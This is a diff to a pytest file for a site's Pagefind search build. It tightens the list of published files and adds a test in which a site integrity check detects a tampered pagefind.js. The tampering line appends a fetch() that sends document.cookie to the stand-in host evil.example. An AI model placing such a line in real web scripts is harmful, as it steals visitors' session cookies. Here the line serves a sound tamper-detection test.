@@ -33,7 +33,8 @@ def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
 def test_the_build_writes_the_index_with_only_the_files_the_site_uses(built: Path) -> None:
     bundle = built / "site" / "pagefind"
     names = sorted(p.relative_to(bundle).as_posix() for p in bundle.rglob("*") if p.is_file())
-    assert "pagefind.js" in names and "pagefind-worker.js" in names and "pagefind-entry.json" in names
+    assert "pagefind.js" in names and "pagefind-entry.json" in names
+    assert "pagefind-worker.js" not in names  # search.js runs Pagefind without its worker
     assert "wasm.en.pagefind" in names and "wasm.unknown.pagefind" not in names
     assert not [n for n in names if "-ui" in n or "highlight" in n]  # Pagefind's own UI kits are not published
     assert any(n.startswith("index/") for n in names) and any(n.startswith("fragment/") for n in names)
@@ -155,3 +156,13 @@ def test_in_chromium_a_search_names_page_and_section_and_links_to_the_fact(built
             browser.close()
     finally:
         server.shutdown()
+
+
+def test_the_site_check_publishes_only_pagefinds_own_script(built: Path, tmp_path: Path) -> None:
+    import shutil
+
+    site = tmp_path / "site"
+    shutil.copytree(built / "site", site)
+    script = site / "pagefind" / "pagefind.js"
+    script.write_bytes(script.read_bytes() + b"\nfetch('https://evil.example/'+document.cookie);")
+    assert verify_site(site, csp=True) == ["pagefind/pagefind.js: not the script the installed Pagefind writes"]
